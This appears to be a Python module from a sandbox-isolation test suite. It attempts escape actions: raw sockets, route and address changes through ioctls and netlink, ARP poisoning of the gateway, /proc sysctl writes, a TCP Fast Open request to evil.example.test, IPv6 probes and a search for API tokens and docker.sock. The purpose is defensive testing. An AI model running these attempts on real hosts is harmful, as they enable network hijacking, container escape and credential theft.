"""The hostile script's attacks on the sandbox's own namespace (hostile.py): raw and
packet sockets, capabilities, routes, addresses and ARP (ioctls, netlink, /proc),
TCP Fast Open, IPv6, the control API's files."""

from __future__ import annotations

import fcntl
import os
import socket
import struct
from functools import partial

# Siblings in the folder mounted at /esc (the script's own, first on sys.path).
from hostile_wire import TIMEOUT, T, attempt, read, tcp, udp


def sockaddr_in(ip: str) -> bytes:
    return struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(ip))


def ifreq(name: str, payload: bytes) -> bytes:
    return name.encode().ljust(16, b"\0") + payload.ljust(24, b"\0")


# -- netlink (what ``ip route/addr/neigh add`` does) --------------------------------------

NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE = 0x1, 0x4, 0x200, 0x400
RTM_NEWADDR, RTM_NEWROUTE, RTM_NEWNEIGH, NLMSG_ERROR = 20, 24, 28, 2


def rtattr(kind: int, data: bytes) -> bytes:
    raw = struct.pack("=HH", 4 + len(data), kind) + data
    return raw + b"\0" * (-len(raw) % 4)


def netlink(msg_type: int, body: bytes) -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:  # NETLINK_ROUTE
        s.settimeout(TIMEOUT)
        s.bind((0, 0))
        flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
        s.send(struct.pack("=IHHII", 16 + len(body), msg_type, flags, 1, 0) + body)
        reply = s.recv(4096)
    _length, kind, _flags, _seq, _pid = struct.unpack_from("=IHHII", reply)
    if kind == NLMSG_ERROR:
        code = struct.unpack_from("=i", reply, 16)[0]
        if code:
            raise OSError(-code, os.strerror(-code))
    return "acknowledged: the kernel applied it"


def raw_sockets() -> None:
    attempt("raw_packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close())
    attempt(
        "raw_packet_dgram", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0).close()
    )
    for name, proto in (
        ("raw_ip", socket.IPPROTO_RAW),
        ("raw_tcp", socket.IPPROTO_TCP),
        ("raw_udp", socket.IPPROTO_UDP),
        ("raw_icmp", socket.IPPROTO_ICMP),
    ):
        attempt(
            name,
            partial(lambda p: socket.socket(socket.AF_INET, socket.SOCK_RAW, p).close(), proto),
        )
    attempt("raw_ip6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 255).close())

    def userns_then_raw() -> str:
        getattr(os, "unshare")(getattr(os, "CLONE_NEWUSER", 0x10000000))  # noqa: B009 (3.12+)  # a user namespace would give "capabilities" ...
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()  # ... but not here
        return "raw socket in the session's namespace after unshare"

    attempt("userns_raw", userns_then_raw)

    def caps() -> str:
        for line in read("/proc/self/status").splitlines():
            if line.startswith("CapEff:"):
                return line.split()[1]
        return ""

    attempt("control_capeff", caps)


def routes_and_addresses() -> None:
    gw, bridge = T["gateway"], T["bridge"]
    ifindex = socket.if_nametoindex("eth0")
    before = read("/proc/net/route")

    def ioctl(request: int, arg: bytes) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            fcntl.ioctl(s.fileno(), request, arg)
        return "ioctl accepted"

    rtentry = bytearray(120)  # struct rtentry (x86_64): a /32 route to the bridge, no gateway
    rtentry[8:24] = sockaddr_in(bridge)
    rtentry[40:56] = sockaddr_in("255.255.255.255")
    rtentry[56:58] = struct.pack("=H", 0x0001 | 0x0004)  # RTF_UP | RTF_HOST
    attempt("ioctl_addrt", lambda: ioctl(0x890B, bytes(rtentry)))  # SIOCADDRT
    default = bytearray(120)
    default[8:24] = sockaddr_in("0.0.0.0")
    default[40:56] = sockaddr_in("0.0.0.0")
    attempt("ioctl_delrt", lambda: ioctl(0x890C, bytes(default)))  # SIOCDELRT
    attempt("ioctl_ifaddr", lambda: ioctl(0x8916, ifreq("eth0", sockaddr_in(T["evil"]))))
    attempt("ioctl_ifflags", lambda: ioctl(0x8914, ifreq("eth0", struct.pack("=H", 0))))
    attempt("ioctl_mtu", lambda: ioctl(0x8922, ifreq("eth0", struct.pack("=i", 9000))))
    arpreq = sockaddr_in(gw) + struct.pack("=H6s8x", 1, b"\x02\x00\x00\x00\x00\x01")
    arpreq += struct.pack("=i", 0x02 | 0x04) + sockaddr_in("0.0.0.0") + b"eth0".ljust(16, b"\0")
    attempt("ioctl_arp", lambda: ioctl(0x8955, arpreq))  # SIOCSARP: poison the gateway entry

    rtmsg = struct.pack("=BBBBBBBBI", socket.AF_INET, 32, 0, 0, 254, 3, 0, 1, 0)
    attempt(
        "netlink_route",
        lambda: netlink(
            RTM_NEWROUTE,
            rtmsg + rtattr(1, socket.inet_aton(bridge)) + rtattr(4, struct.pack("=i", ifindex)),
        ),
    )
    ifaddr = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, ifindex)
    attempt(
        "netlink_addr",
        lambda: netlink(
            RTM_NEWADDR,
            ifaddr
            + rtattr(2, socket.inet_aton(T["evil"]))
            + rtattr(1, socket.inet_aton(T["evil"])),
        ),
    )
    ndmsg = struct.pack("=BxxxiHBB", socket.AF_INET, ifindex, 0x80, 0, 0)
    attempt(
        "netlink_neigh",
        lambda: netlink(
            RTM_NEWNEIGH,
            ndmsg + rtattr(1, socket.inet_aton(gw)) + rtattr(2, b"\x02\x00\x00\x00\x00\x01"),
        ),
    )

    def write(path: str, value: str) -> str:
        with open(path, "w") as f:
            f.write(value)
        return f"wrote {path}"

    attempt("proc_ip_forward", lambda: write("/proc/sys/net/ipv4/ip_forward", "1"))
    attempt("proc_ipv6", lambda: write("/proc/sys/net/ipv6/conf/all/disable_ipv6", "0"))
    attempt("proc_rp_filter", lambda: write("/proc/sys/net/ipv4/conf/eth0/rp_filter", "0"))
    attempt("routes_unchanged", lambda: read("/proc/net/route") == before)

    def syn_data() -> int:
        """A request head in the SYN (TCP Fast Open, no cookie needed): a web flow read in
        passing would carry it out before the gateway reads any head."""
        s = socket.socket()
        s.settimeout(5)
        try:
            s.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE
            head = b"GET /tfo HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"
            return s.sendto(head, socket.MSG_FASTOPEN, (T["internet"], 80))
        finally:
            s.close()

    attempt("tfo_sysctl", lambda: read("/proc/sys/net/ipv4/tcp_fastopen").strip())
    attempt("tfo_syn_data", syn_data)
    attempt("control_routes", lambda: [line.split()[:3] for line in before.splitlines()[1:]])


def ipv6() -> None:
    def addresses() -> list[str]:
        try:
            return [line.split()[0] for line in open("/proc/net/if_inet6")]
        except FileNotFoundError:
            return []

    attempt("v6_addresses", addresses)
    attempt("v6_disabled", lambda: read("/proc/sys/net/ipv6/conf/all/disable_ipv6").strip())
    port = T["listen_port"]
    for name, addr in (
        ("v6_host_ll", T["bridge_ll"]),
        ("v6_host_ula", T["target_v6_host"]),
        ("v6_target_ula", T["target_v6"]),
        ("v6_target_ll", T["target_ll"]),
    ):
        if addr:
            attempt(f"{name}_tcp", partial(tcp, addr, port))
            attempt(
                f"{name}_udp",
                partial(udp, addr, port, b"CODERUN-v6", reply=False, family=socket.AF_INET6),
            )
    attempt(
        "v6_mcast", lambda: udp("ff02::1", port, b"CODERUN-v6", reply=False, family=socket.AF_INET6)
    )
    # An IPv4-mapped address is IPv4 on the wire: it crosses the gateway like any flow.
    attempt("v6_mapped_denied", lambda: tcp("::ffff:" + T["evil"], 80))


def api_socket() -> None:
    def search() -> list[str]:
        found: list[str] = []
        names = {"api.sock", "api-token", "rules.db", "flows.jsonl", "gateway.json", "docker.sock"}
        for root, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
            found.extend(os.path.join(root, f) for f in files if f in names)
        return found

    attempt("api_files_visible", search)
    attempt(
        "api_unix_sockets",
        lambda: [
            line.split()[-1]
            for line in read("/proc/net/unix").splitlines()
            if "api.sock" in line or "docker" in line
        ],
    )
    attempt("data_dir_visible", lambda: os.listdir("/data"))
    attempt("docker_sock", lambda: os.stat("/var/run/docker.sock").st_mode)
